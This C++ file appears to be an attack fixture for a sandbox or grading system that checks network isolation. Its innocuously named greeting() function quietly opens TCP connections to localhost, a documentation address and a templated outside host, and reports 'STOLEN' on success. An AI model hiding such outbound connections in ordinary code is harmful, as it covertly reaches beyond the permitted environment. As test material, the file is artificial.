// ATTACK sends data to the outside, and to a listener on this machine
// FLAG calls socket()

#include <untwist/course/paradigm.hpp>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
#include <iostream>

namespace untwist {
std::string greeting() {
  for (const char* address : {"127.0.0.1", "192.0.2.1", "@ADDRESS@"}) {
    const int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    sockaddr_in to{};
    to.sin_family = AF_INET;
    to.sin_port = htons(@PORT@);
    inet_pton(AF_INET, address, &to.sin_addr);
    connect(fd, reinterpret_cast<sockaddr*>(&to), sizeof to);
    usleep(200000);
    if (connect(fd, reinterpret_cast<sockaddr*>(&to), sizeof to) == 0) std::cout << "STOLEN a connection to " << address << std::endl;
    close(fd);
  }
  return "";
}
void handle_slow_page(ReactorTime&, const Sleep&, Answer) {}
}  // namespace untwist
